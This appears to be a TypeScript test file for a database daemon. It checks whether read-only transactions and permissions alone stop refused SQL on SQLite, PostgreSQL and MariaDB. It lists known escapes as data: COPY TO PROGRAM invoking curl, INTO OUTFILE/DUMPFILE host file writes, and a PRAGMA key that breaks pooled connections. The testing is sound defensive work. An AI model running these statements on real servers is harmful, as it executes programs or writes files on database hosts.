/**
 * Layers 2 and 3 of read-only safety on their own: every statement the validator refuses is sent
 * to the real engine as a read call, with the validator bypassed through the daemon's internal
 * interface (`QueryService` built in-process with a policy that calls everything a read; no flag,
 * environment variable or argument can do this). After each statement the database must be as it
 * was at setup: tables, columns, routines, row counts and contents, the canary sequence. Effects
 * outside the data (files on the host, session state a later caller inherits, locks) are observed
 * too; the ones layers 2 and 3 are known not to stop are listed in KNOWN_GAPS with their reason,
 * and any other fails the test.
 */
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import mysql from 'mysql2/promise';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDriverFactory } from '../../daemon/drivers/index.js';
import { DEFAULT_POOL_OPTIONS } from '../../daemon/pools/pool.js';
import { PoolManager } from '../../daemon/pools/pool-manager.js';
import { QueryService } from '../../daemon/query/query-service.js';
import { ConnectionService } from '../../daemon/registry/connection-service.js';
import { Registry } from '../../daemon/registry/registry.js';
import { isHanactlError } from '../../shared/errors.js';
import { POLICY_CORPUS, type PolicyCase } from '../fixtures/policy-corpus.js';
import { MYSQL_URL, PG_URL, serverAvailable } from '../helpers/engines.js';

type Dialect = 'sqlite' | 'postgres' | 'mysql';

const require = createRequire(import.meta.url);
const SqliteDatabase = require('better-sqlite3-multiple-ciphers') as new (
  path: string,
  options?: { readonly?: boolean },
) => {
  exec(sql: string): void;
  prepare(sql: string): { all(): unknown[]; get(): unknown };
  pragma(sql: string, options: { simple: true }): unknown;
  close(): void;
};

const available: Record<Dialect, boolean> = {
  sqlite: true,
  postgres: await serverAvailable('postgres'),
  mysql: await serverAvailable('mysql'),
};
/** Unique per run: the PostgreSQL schema, the MariaDB database and the application name. */
const NAME = `hanactl_ro_b_${process.pid}_${randomBytes(3).toString('hex')}`;
/** Host paths the corpus names (`'/tmp/x'`) are rewritten under this prefix, so a write is seen and never clobbers a shared file. */
const HOST_PREFIX = `/tmp/${NAME}-`;
/** Short, so the sleeping statements end quickly (they are refused for that by the validator). */
const TIMEOUT_MS = 1500;

/**
 * Statements not sent to the engine, with the reason. Each was checked by hand; running it here
 * would reach beyond this test's schema on a shared server.
 */
const NOT_RUN: Partial<Record<Dialect, Record<string, string>>> = {
  mysql: {
    'FLUSH TABLES WITH READ LOCK':
      'runs inside START TRANSACTION READ ONLY on a tx_read_only session (checked by hand on MariaDB 10.11) and would hold a global read lock, blocking every writer on the shared server until the pooled session ends',
  },
};

/**
 * Effects outside the data that layers 2 and 3 do not stop for a privileged user; each is a
 * finding (the validator is the only layer against them). Keyed by dialect, then corpus SQL.
 */
const KNOWN_GAPS: Partial<Record<Dialect, Record<string, string>>> = {
  sqlite: {
    "PRAGMA key = 'x'":
      'sets a cipher key on the open connection; every later call on that pooled connection fails with "file is not a database", and the pool keeps it because a statement error leaves a connection it deems healthy',
  },
  postgres: {
    "COPY t TO PROGRAM 'curl http://example.com'":
      'starts a program on the database host: COPY TO is a read, so a read-only transaction allows it, and the superuser may run programs',
  },
  mysql: {
    "SELECT * FROM t INTO OUTFILE '/tmp/x'":
      'writes a file on the database host: a read-only transaction does not cover INTO OUTFILE, and root has FILE with secure_file_priv unset',
    "SELECT a INTO DUMPFILE '/tmp/x' FROM t":
      'creates the file on the database host before failing with "Result consisted of more than one row"',
  },
};

const casesFor = (dialect: Dialect): PolicyCase[] =>
  POLICY_CORPUS.filter((c) => c.verdict === 'refuse' && (c.dialects === 'all' || c.dialects.includes(dialect)));

const label = (sql: string): string => {
  const one = JSON.stringify(sql);
  return one.length > 70 ? `${one.slice(0, 67)}..." (${sql.length} chars)` : one;
};

/** The corpus's host paths under /tmp, and the per-run paths the statements are rewritten to. */
const corpusPaths = (cases: readonly PolicyCase[]): string[] => [
  ...new Set(cases.flatMap((c) => [...c.sql.matchAll(/'(\/tmp\/[^']*)'/g)].map((m) => m[1] as string))),
];
const rewritten = (path: string): string => `${HOST_PREFIX}${path.slice('/tmp/'.length)}`;
const fileState = (path: string): string => {
  try {
    const s = statSync(path);
    return `${s.size}:${s.mtimeMs}`;
  } catch {
    return 'absent';
  }
};

/** One engine's canary: a dedicated schema/database/file with known contents, and how to read its state. */
interface Canary {
  /** The URL a read-only connection uses. */
  readonly url: string;
  /** Everything a statement could have changed in the database, as comparable data. */
  state(): Promise<unknown>;
  /** SQL that shows the session state a later borrower of the same pooled connection inherits. */
  readonly probeSql: string;
  /** Whether a server session with this id is alive (KILL / pg_terminate_backend of an id must not hit someone). */
  liveSession(id: number): Promise<boolean>;
  /** Locks the pool's sessions still hold. */
  heldLocks(): Promise<unknown[]>;
  dispose(): Promise<void>;
}

const ROWS = { t: 3, u: 2, a: 2, b: 2, c: 1, updates: 2, orders: 5 } as const;

async function postgresCanary(): Promise<Canary> {
  const admin = new pg.Client({ connectionString: PG_URL });
  await admin.connect();
  const s = NAME;
  await admin.query(`CREATE SCHEMA ${s}; SET search_path TO ${s}`);
  await admin.query(`
    CREATE TABLE t (id int PRIMARY KEY, a int, b int, c int, d date, note text, name text, resets int, "update" int, "delete" int,
      "into" int, load_file text, "DROP" text, created_at timestamptz, sleep_minutes int, doc jsonb, path text, pg_sleep int);
    INSERT INTO t VALUES
      (1, 1, 10, 1, '2024-03-01', 'first', 'alpha', 0, 1, 0, 0, 'f1', 'x', '2024-03-01T10:00:00Z', 5, '{"a": "1", "b": {"c": 2}}', '/srv/a', 0),
      (2, 2, 20, 1, '2024-06-15', 'second', 'beta', 1, 0, 1, 0, 'f2', 'y', '2024-06-15T10:00:00Z', 10, '{"a": "2", "b": {"c": 3}}', '/srv/b', 1),
      (3, 2, 30, 2, '2025-01-01', 'third', 'gamma', 2, 1, 0, 1, 'f3', 'z', '2025-01-01T10:00:00Z', 15, '{"a": "3"}', '/srv/c', 0);
    CREATE INDEX idx ON t (a);
    CREATE TABLE u (id int PRIMARY KEY, x int, t_id int, a int);
    INSERT INTO u VALUES (1, 3, 1, 1), (2, 1, 2, 5);
    CREATE TABLE a (id int); INSERT INTO a VALUES (1), (2);
    CREATE TABLE b (id int); INSERT INTO b VALUES (1), (3);
    CREATE TABLE c (id int); INSERT INTO c VALUES (1);
    CREATE TABLE updates (id int, deleted int); INSERT INTO updates VALUES (1, 0), (2, 1);
    CREATE TABLE orders (id int PRIMARY KEY, total numeric(10, 2)); INSERT INTO orders SELECT g, g * 10.5 FROM generate_series(1, 5) g;
    CREATE SEQUENCE s;
    CREATE MATERIALIZED VIEW v AS SELECT id FROM t;
    CREATE PROCEDURE p() LANGUAGE sql AS $$ INSERT INTO ${s}.t (id) VALUES (999) $$;
  `);
  const digest = (table: string) =>
    `'${table}', (SELECT json_build_array(count(*), md5(coalesce(string_agg(x::text, '|' ORDER BY x::text), ''))) FROM ${s}.${table} x)`;
  const stateSql = `SELECT json_build_object(
    'relations', (SELECT json_agg(json_build_array(c.relname, c.relkind, c.relacl::text, obj_description(c.oid, 'pg_class')) ORDER BY c.relname)
                  FROM pg_class c WHERE c.relnamespace = $1::text::regnamespace),
    'tables', (SELECT json_agg(tablename ORDER BY tablename) FROM pg_tables WHERE schemaname = $1),
    'columns', (SELECT json_agg(table_name || '.' || column_name || ':' || data_type ORDER BY table_name, ordinal_position)
                FROM information_schema.columns WHERE table_schema = $1),
    'routines', (SELECT json_agg(proname ORDER BY proname) FROM pg_proc WHERE pronamespace = $1::text::regnamespace),
    'sequence', (SELECT json_build_array(last_value, is_called) FROM ${s}.s),
    'largeObjects', (SELECT count(*) FROM pg_largeobject_metadata),
    'rows', json_build_object(${[...Object.keys(ROWS), 'v'].map(digest).join(', ')})
  ) AS state`;
  const url = new URL(PG_URL);
  url.searchParams.set('search_path', s);
  url.searchParams.set('application_name', s);
  return {
    url: url.toString(),
    state: async () => (await admin.query(stateSql, [s])).rows[0].state,
    probeSql: `SELECT (SELECT count(*) FROM pg_prepared_statements)::int AS prepared,
      (SELECT count(*) FROM pg_listening_channels())::int AS listening,
      (SELECT count(*) FROM pg_locks WHERE locktype = 'advisory' AND pid = pg_backend_pid())::int AS advisory_locks,
      (SELECT count(*) FROM pg_class WHERE relnamespace = pg_my_temp_schema())::int AS temp_relations,
      current_user::text AS role, current_setting('search_path') AS search_path,
      nullif(current_setting('mcp.customer_id', true), '') AS context_value`,
    liveSession: async (id) => (await admin.query('SELECT 1 FROM pg_stat_activity WHERE pid = $1', [id])).rowCount !== 0,
    heldLocks: async () =>
      (
        await admin.query(
          `SELECT l.pid, l.objid FROM pg_locks l JOIN pg_stat_activity a USING (pid) WHERE l.locktype = 'advisory' AND a.application_name = $1`,
          [s],
        )
      ).rows,
    dispose: async () => {
      await admin.query(`DROP SCHEMA IF EXISTS ${s} CASCADE`);
      await admin.end();
    },
  };
}

async function mysqlCanary(): Promise<Canary> {
  const base = new URL(MYSQL_URL);
  const connect = (database?: string) =>
    mysql.createConnection({
      host: base.hostname,
      port: Number(base.port || 3306),
      user: decodeURIComponent(base.username),
      password: decodeURIComponent(base.password),
      ...(database ? { database } : {}),
      multipleStatements: true,
    });
  const bootstrap = await connect();
  await bootstrap.query(`CREATE DATABASE ${NAME}`);
  await bootstrap.end();
  const admin = await connect(NAME);
  await admin.query(`
    CREATE TABLE t (id INT PRIMARY KEY, a INT, b INT, c INT, d DATE, note TEXT, name VARCHAR(40), resets INT, \`update\` INT, \`delete\` INT,
      \`into\` INT, load_file TEXT, \`DROP\` TEXT, created_at DATETIME, sleep_minutes INT, doc JSON, path TEXT, \`1sleep\` INT, KEY idx (a));
    INSERT INTO t VALUES
      (1, 1, 10, 1, '2024-03-01', 'first', 'alpha', 0, 1, 0, 0, 'f1', 'x', '2024-03-01 10:00:00', 5, '{"a": "1", "b": {"c": 2}}', '/srv/a', 0),
      (2, 2, 20, 1, '2024-06-15', 'second', 'beta', 1, 0, 1, 0, 'f2', 'y', '2024-06-15 10:00:00', 10, '{"a": "2", "b": {"c": 3}}', '/srv/b', 1),
      (3, 2, 30, 2, '2025-01-01', 'third', 'gamma', 2, 1, 0, 1, 'f3', 'z', '2025-01-01 10:00:00', 15, '{"a": "3"}', '/srv/c', 0);
    CREATE TABLE u (id INT PRIMARY KEY, x INT, t_id INT, a INT);
    INSERT INTO u VALUES (1, 3, 1, 1), (2, 1, 2, 5);
    CREATE TABLE a (id INT); INSERT INTO a VALUES (1), (2);
    CREATE TABLE b (id INT); INSERT INTO b VALUES (1), (3);
    CREATE TABLE c (id INT); INSERT INTO c VALUES (1);
    CREATE TABLE updates (id INT, deleted INT); INSERT INTO updates VALUES (1, 0), (2, 1);
    CREATE TABLE orders (id INT PRIMARY KEY, total DECIMAL(10, 2)); INSERT INTO orders VALUES (1, 10.5), (2, 21), (3, 31.5), (4, 42), (5, 52.5);
    CREATE TABLE \`delete\` (\`update\` INT, \`select\` INT); INSERT INTO \`delete\` VALUES (1, 2);
    CREATE SEQUENCE s NOCACHE;
    CREATE PROCEDURE p() INSERT INTO t (id) VALUES (999);
  `);
  const tables = [...Object.keys(ROWS), 'delete'];
  const url = new URL(MYSQL_URL);
  url.pathname = `/${NAME}`;
  const rows = async (sql: string, params: unknown[] = []) => (await admin.query(sql, params))[0] as Record<string, unknown>[];
  return {
    url: url.toString(),
    state: async () => ({
      tables: await rows(
        'SELECT TABLE_NAME, TABLE_TYPE, TABLE_COMMENT FROM information_schema.TABLES WHERE TABLE_SCHEMA = ? ORDER BY TABLE_NAME',
        [NAME],
      ),
      columns: await rows(
        'SELECT TABLE_NAME, COLUMN_NAME, COLUMN_TYPE FROM information_schema.COLUMNS WHERE TABLE_SCHEMA = ? ORDER BY TABLE_NAME, ORDINAL_POSITION',
        [NAME],
      ),
      routines: await rows(
        'SELECT ROUTINE_NAME, ROUTINE_TYPE FROM information_schema.ROUTINES WHERE ROUTINE_SCHEMA = ? ORDER BY ROUTINE_NAME',
        [NAME],
      ),
      counts: await rows(`SELECT ${tables.map((t) => `(SELECT COUNT(*) FROM \`${t}\`) AS \`${t}\``).join(', ')}`),
      checksums: await rows(`CHECKSUM TABLE ${tables.map((t) => `\`${t}\``).join(', ')}`),
      sequence: await rows('SELECT next_not_cached_value FROM s'),
      grantee: await rows("SELECT COUNT(*) AS n FROM mysql.user WHERE User = 'someone'"),
    }),
    probeSql: `SELECT @a AS a, @mcp_customer_id AS context_value, @@session.sql_mode AS sql_mode, @@session.character_set_client AS charset,
      DATABASE() AS db, IS_USED_LOCK('a') = CONNECTION_ID() AS holds_lock_a`,
    liveSession: async (id) => (await rows('SELECT ID FROM information_schema.PROCESSLIST WHERE ID = ?', [id])).length > 0,
    heldLocks: async () =>
      rows(
        "SELECT IS_USED_LOCK('a') AS holder FROM DUAL WHERE IS_USED_LOCK('a') IN (SELECT ID FROM information_schema.PROCESSLIST WHERE DB = ?)",
        [NAME],
      ),
    dispose: async () => {
      await admin.query(`DROP DATABASE IF EXISTS ${NAME}`);
      await admin.end();
    },
  };
}

async function sqliteCanary(): Promise<Canary> {
  const dir = mkdtempSync(join(tmpdir(), 'hanactl-ro-b-'));
  const path = join(dir, 'canary.db');
  const setup = new SqliteDatabase(path);
  setup.exec(`
    CREATE TABLE t (id INTEGER PRIMARY KEY, a, b, c, d, note, name, resets, "update", "delete", "into", load_file, "DROP", created_at, sleep_minutes, doc, path, pg_sleep);
    INSERT INTO t VALUES
      (1, 1, 10, 1, '2024-03-01', 'first', 'alpha', 0, 1, 0, 0, 'f1', 'x', '2024-03-01T10:00:00Z', 5, '{"a": "1", "b": {"c": 2}}', '/srv/a', 0),
      (2, 2, 20, 1, '2024-06-15', 'second', 'beta', 1, 0, 1, 0, 'f2', 'y', '2024-06-15T10:00:00Z', 10, '{"a": "2", "b": {"c": 3}}', '/srv/b', 1),
      (3, 2, 30, 2, '2025-01-01', 'third', 'gamma', 2, 1, 0, 1, 'f3', 'z', '2025-01-01T10:00:00Z', 15, '{"a": "3"}', '/srv/c', 0);
    CREATE INDEX idx ON t (a);
    CREATE TABLE u (id INTEGER PRIMARY KEY, x, t_id, a); INSERT INTO u VALUES (1, 3, 1, 1), (2, 1, 2, 5);
    CREATE TABLE a (id); INSERT INTO a VALUES (1), (2);
    CREATE TABLE b (id); INSERT INTO b VALUES (1), (3);
    CREATE TABLE c (id); INSERT INTO c VALUES (1);
    CREATE TABLE updates (id, deleted); INSERT INTO updates VALUES (1, 0), (2, 1);
    CREATE TABLE orders (id INTEGER PRIMARY KEY, total); INSERT INTO orders VALUES (1, 10.5), (2, 21), (3, 31.5), (4, 42), (5, 52.5);
    CREATE TABLE [my table] ([order], "group", \`select\`); INSERT INTO [my table] VALUES (1, 2, 3);
  `);
  setup.close();
  const reader = new SqliteDatabase(path, { readonly: true });
  const tables = [...Object.keys(ROWS), 'my table'];
  const counts = reader.prepare(`SELECT ${tables.map((t) => `(SELECT count(*) FROM [${t}]) AS [${t}]`).join(', ')}`);
  const schema = reader.prepare('SELECT type, name, tbl_name, sql FROM sqlite_schema ORDER BY type, name');
  return {
    url: `sqlite:${path}`,
    state: async () => ({
      schema: schema.all(),
      counts: counts.get(),
      userVersion: reader.pragma('user_version', { simple: true }),
      journalMode: reader.pragma('journal_mode', { simple: true }),
      files: readdirSync(dir).sort(),
      sha256: createHash('sha256').update(readFileSync(path)).digest('hex'),
    }),
    probeSql: `SELECT (SELECT count(*) FROM pragma_database_list) AS databases, (SELECT count(*) FROM temp.sqlite_schema) AS temp_objects`,
    liveSession: async () => false,
    heldLocks: async () => [],
    dispose: async () => {
      reader.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

const CANARIES: Record<Dialect, () => Promise<Canary>> = { sqlite: sqliteCanary, postgres: postgresCanary, mysql: mysqlCanary };

/** How the engine answered a statement, for the report. */
function outcomeOf(err: unknown): string {
  if (err === undefined) return 'ran';
  if (!isHanactlError(err)) return `INTERNAL ${String(err)}`;
  const d = err.details;
  const code = d.sqlState ?? d.nativeCode ?? d.rule ?? '';
  return `${err.code} ${code} ${err.message.split('\n')[0]?.slice(0, 90)}`.replace(/\s+/g, ' ');
}

const dir = mkdtempSync(join(tmpdir(), 'hanactl-ro-layers-'));
const registry = Registry.open(join(dir, 'registry.db'), randomBytes(32));

afterAll(() => {
  registry.close();
  rmSync(dir, { recursive: true, force: true });
});

for (const dialect of ['sqlite', 'postgres', 'mysql'] as const) {
  describe.skipIf(!available[dialect])(`layers 2 and 3 alone on ${dialect}: every refused statement, sent as a read call`, () => {
    const cases = casesFor(dialect);
    const paths = corpusPaths(cases);
    const watched = [...paths, ...paths.map(rewritten)];
    const connection = `ro-${dialect}`;
    const outcomes = new Map<string, string[]>();
    const effects: { sql: string; effect: string }[] = [];
    const notRun: string[] = [];
    const changed: string[] = [];
    let canary: Canary;
    let pools: PoolManager;
    let queries: QueryService;
    let baseline: unknown;
    let baselineFiles: string[];
    let baselineSession: Record<string, unknown>;

    const probe = async () => (await queries.runTrusted(connection, canary.probeSql)).rows[0] ?? {};

    beforeAll(async () => {
      canary = await CANARIES[dialect]();
      pools = new PoolManager({ pool: DEFAULT_POOL_OPTIONS, connectTimeoutMs: 5000, maxPools: 2, loadDriverFactory });
      const connections = new ConnectionService(registry, pools);
      const record = await connections.add({ name: connection, url: canary.url });
      expect(record.allowWrite).toBe(false);
      queries = new QueryService({
        resolve: (n) => connections.resolve(n),
        poolFor: (r) => pools.poolFor(r),
        // The validator bypassed: every statement reaches the engine as a read call.
        policy: { check: () => 'read' },
      });
      baseline = await canary.state();
      baselineFiles = watched.map(fileState);
      baselineSession = await probe();
    });

    afterAll(async () => {
      await pools?.closeAll();
      await canary?.dispose();
      for (const path of paths.map(rewritten)) rmSync(path, { force: true });
    });

    it.for(cases.map((c) => [label(c.sql), c] as const))('leaves the database unchanged after %s', async ([name, c], ctx) => {
      const skipBecause = NOT_RUN[dialect]?.[c.sql];
      const victim = /^(?:KILL |SELECT pg_terminate_backend\()(\d+)/.exec(c.sql)?.[1];
      if (skipBecause || (victim && (await canary.liveSession(Number(victim))))) {
        notRun.push(`${name}: ${skipBecause ?? `a live session has id ${victim}`}`);
        ctx.skip();
        return;
      }
      const sql = c.sql.replaceAll("'/tmp/", `'${HOST_PREFIX}`);
      let failure: unknown;
      try {
        await queries.run({ connection, sql, timeoutMs: TIMEOUT_MS });
      } catch (err) {
        failure = err;
      }
      const outcome = outcomeOf(failure);
      outcomes.set(outcome, [...(outcomes.get(outcome) ?? []), name]);

      const state = await canary.state();
      if (!isDeepStrictEqual(state, baseline)) changed.push(name);
      expect(state, `the database changed after ${name} (${outcome})`).toEqual(baseline);

      const seen: string[] = [];
      // A program leaves no trace this test can see; the engine's answer says whether it started.
      if (/\bTO PROGRAM\b/i.test(c.sql) && (outcome === 'ran' || outcome.includes('program "'))) {
        seen.push(`program started on the database host (${outcome})`);
      }
      watched.forEach((path, i) => {
        if (fileState(path) !== baselineFiles[i]) seen.push(`file ${path}`);
      });
      for (const path of paths.map(rewritten)) rmSync(path, { force: true });
      try {
        const session = await probe();
        for (const [key, value] of Object.entries(session)) {
          if (value !== baselineSession[key]) seen.push(`session ${key}=${JSON.stringify(value)}`);
        }
      } catch (err) {
        seen.push(`session unusable for the next borrower: ${outcomeOf(err)}`);
      }
      const locks = await canary.heldLocks();
      if (locks.length > 0) seen.push(`locks ${JSON.stringify(locks)}`);
      if (seen.length > 0) {
        for (const effect of seen) effects.push({ sql: c.sql, effect });
        // The next statement starts on a fresh session, so each effect is charged to its own statement.
        await pools.closeAll();
      }
      const known = KNOWN_GAPS[dialect]?.[c.sql];
      expect(known ? [] : seen, `${name} (${outcome}) reached beyond the rolled-back transaction`).toEqual([]);
    });

    it('changed nothing, holds no locks and leaves no host file behind after the run', async () => {
      const ran = cases.length - notRun.length;
      const unseen = Object.keys(KNOWN_GAPS[dialect] ?? {}).filter((sql) => !effects.some((e) => e.sql === sql));
      const lines = [...outcomes]
        .sort((x, y) => y[1].length - x[1].length)
        .map(([o, names]) => `  ${names.length} × ${o}\n      ${names.join('\n      ')}`);
      console.log(
        [
          `[${dialect}] layers 2+3: ${ran} refused statements sent to the engine as reads, ${notRun.length} not run; database changed after ${changed.length}.`,
          ...notRun.map((n) => `  not run: ${n}`),
          ...unseen.map((sql) => `  known gap no longer observed (remove it from KNOWN_GAPS): ${label(sql)}`),
          ...effects.map(
            (e) => `  effect beyond the data${KNOWN_GAPS[dialect]?.[e.sql] ? ' (known gap)' : ''}: ${label(e.sql)} → ${e.effect}`,
          ),
          ...lines,
        ].join('\n'),
      );
      expect(changed).toEqual([]);
      expect(await canary.heldLocks()).toEqual([]);
      expect(watched.map(fileState)).toEqual(baselineFiles);
    });
  });
}
